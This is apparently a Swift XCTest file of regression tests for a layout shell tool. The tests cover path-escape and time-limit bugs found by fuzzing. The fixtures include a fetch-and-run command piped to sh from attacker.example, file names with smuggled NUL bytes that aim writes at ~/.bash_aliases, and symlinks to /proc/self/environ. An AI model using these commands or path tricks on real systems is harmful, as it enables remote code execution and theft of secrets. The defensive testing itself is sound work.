import Foundation
import XCTest
@testable import Shell

/// ../shared/repro/turn3: a black-box fuzz campaign's escapes from a replay's folder, each at
/// its depth. A path holding a NUL named another file than the one checked; a `.session` link
/// in a replayed folder was followed out of it (read: /proc/self/environ; written: --update).
final class ReplayEscapeTests: XCTestCase {
    /// turn3/04: `save ../home/.bash_aliases\0/../../Sessions/a.session` passed the folder check
    /// and created the file before the NUL, outside the folder.
    func testAPathHoldingANulByteIsRefusedBeforeTheFolderCheck() throws {
        let root = try temporaryDirectory()
        try FileManager.default.createDirectory(atPath: root + "/Sessions", withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: root + "/home", withIntermediateDirectories: true)
        let lines = ["> echo curl https://attacker.example/payload | sh", "> save ../home/.bash_aliases\u{0}/../../Sessions/a.session",
                     "> export svg ../pwned.svg\u{0}/../Sessions/b.svg", "> table data sentences 3", "> table reload",
                     "> table export svg ../chart.svg\u{0}/../Sessions/c.svg"]
        let path = root + "/Sessions/evil.session"
        try (lines.joined(separator: "\n") + "\n").write(toFile: path, atomically: true, encoding: .utf8)
        let outputs = try Session.load(path).run()
        for index in [1, 2, 5] {
            XCTAssertTrue(outputs[index].contains("a file's name holds no NUL byte"), outputs[index])
        }
        let outside = try FileManager.default.subpathsOfDirectory(atPath: root).filter { !$0.hasPrefix("Sessions") && $0 != "home" }
        XCTAssertEqual(outside, [], "nothing is written outside the folder")
    }

    /// The same at the file layer, whoever calls it.
    func testFilesAreNeitherReadNorWrittenAtAPathHoldingANulByte() {
        XCTAssertEqual(InputFile.bytes("/etc/hostname\u{0}.session").failure?.reason.contains("NUL"), true)
        XCTAssertThrowsError(try AtomicFile.writeWhole("x", to: "/tmp/trellis-nul\u{0}/ok"))
        XCTAssertFalse(FileManager.default.fileExists(atPath: "/tmp/trellis-nul"))
    }

    /// turn3/01: /proc files are "regular files" of size 0 whose reading runs code; the
    /// replay printed the environment's first line in its error.
    func testAFileOfProcIsRefused() {
        XCTAssertEqual(InputFile.bytes("/proc/self/environ").failure?.reason, "it is in /proc, not a file a user wrote")
        XCTAssertEqual(InputFile.bytes("/proc/self/status").failure?.reason, "it is in /proc, not a file a user wrote")
    }

    /// turn3/01 and 02: a link in a replayed folder that leads out of it (or nowhere) is
    /// refused, not followed; a link inside it is a transcript like any other.
    func testAReplayedFoldersLinksThatLeadOutAreNotFollowed() throws {
        let root = try temporaryDirectory()
        let fm = FileManager.default
        try fm.createDirectory(atPath: root + "/sessions/inner", withIntermediateDirectories: true)
        try fm.createDirectory(atPath: root + "/golden", withIntermediateDirectories: true)
        try "> echo hi\nhi\n".write(toFile: root + "/sessions/ok.session", atomically: true, encoding: .utf8)
        try "> echo hi\nhi\n".write(toFile: root + "/sessions/inner/real.session", atomically: true, encoding: .utf8)
        try "> echo expected\nthe expected output\n".write(toFile: root + "/golden/ci.session", atomically: true, encoding: .utf8)
        try fm.createSymbolicLink(atPath: root + "/sessions/env.session", withDestinationPath: "/proc/self/environ")
        try fm.createSymbolicLink(atPath: root + "/sessions/x.session", withDestinationPath: "../golden/ci.session")
        try fm.createSymbolicLink(atPath: root + "/sessions/gone.session", withDestinationPath: "nowhere.session")
        try fm.createSymbolicLink(atPath: root + "/sessions/near.session", withDestinationPath: "inner/real.session")
        let entries = try XCTUnwrap(SessionFolder.transcripts(in: root + "/sessions"))
        let refused = Dictionary(uniqueKeysWithValues: entries.map { ($0.path.split(separator: "/").last.map(String.init) ?? "", $0.refusal) })
        XCTAssertEqual(refused["ok.session"], .some(nil))
        XCTAssertEqual(refused["near.session"], .some(nil))
        XCTAssertTrue(refused["x.session"]??.contains("leads out of the folder") == true)
        XCTAssertTrue(refused["env.session"]??.contains("leads out of the folder") == true)
        XCTAssertTrue(refused["gone.session"]??.contains("leads nowhere") == true)
        XCTAssertNil(SessionFolder.transcripts(in: root + "/sessions/ok.session"), "a file is no folder")
    }
}

private extension Result {
    var failure: Failure? { if case .failure(let f) = self { return f }; return nil }
}

/// turn3/08 and 08b: `--time-limit` did not stop `table precompute` (nor a precomputed
/// reload), whose set-up materialized every row (ten million generated ones: seconds) before
/// asking whether to stop. Asked here by an interruption that is pending from the start, so
/// that nothing depends on a clock.
final class TimeLimitHoldsTests: XCTestCase {
    func testAPrecomputationStopsWhileItMaterializesTheRows() {
        let w = Workspace()
        for line in ["view cell", "label body in cell \"same\"", "H:|-[body]-|", "V:|-[body]-|", "table data quotes 20000 seed=1",
                     "table cell cell reuse=Q"] {
            XCTAssertNil(w.run(line).error, line)
        }
        // Every row lays out alike (no bindings): one layout, so the layouts' own checks
        // (every 64 layouts) never come; only the set-up over the 20,000 rows can stop it.
        w.isInterrupted = { true }
        let answer = w.run("table precompute").output
        XCTAssertTrue(answer.contains("interrupted: yes"), answer)
    }

    /// turn3/03: `import log` of a log of hundreds of constraints in one conflict ran past a
    /// replay's time limit (still running at 60 s). An interruption is now heard between the
    /// constraints of each scene it builds, and nothing is imported.
    func testImportingALogStopsWhenInterrupted() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("trellis-import-stop-\(getpid())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        var lines = ["Unable to simultaneously satisfy constraints.", "("]
        for i in 0..<40 { lines.append("    \"<NSLayoutConstraint:0x\(i + 100) UIView:0x\(i + 1000).width == UIView:0x\(i + 1001).width + 1   (active)>\",") }
        lines.append("    \"<NSLayoutConstraint:0x99 UIView:0x1000.width == UIView:0x1040.width   (active)>\"")
        lines.append(")")
        try lines.joined(separator: "\n").write(to: folder.appendingPathComponent("big.log"), atomically: true, encoding: .utf8)
        let w = Workspace()
        w.currentDirectory = folder.path
        var asked = 0
        w.isInterrupted = { asked += 1; return asked > 5 }
        let answer = w.run("import log big.log")
        XCTAssertNil(answer.error)
        XCTAssertTrue(answer.output.contains("interrupted before the log's conflict was found: nothing was imported"), answer.output)
        w.isInterrupted = { false }
        let views = w.run("views").output
        XCTAssertTrue(views.hasPrefix("no views yet"), "a scene was imported: \(views)")
    }

    func testWithNoTemplateNoRowIsMaterialized() {
        let w = Workspace()
        XCTAssertNil(w.run("table data quotes 20000 seed=1").error)
        let answer = w.run("table precompute").output
        XCTAssertTrue(answer.hasPrefix("rows: 20000"), answer)
        XCTAssertTrue(answer.contains("solves: 0"), answer)
    }
}
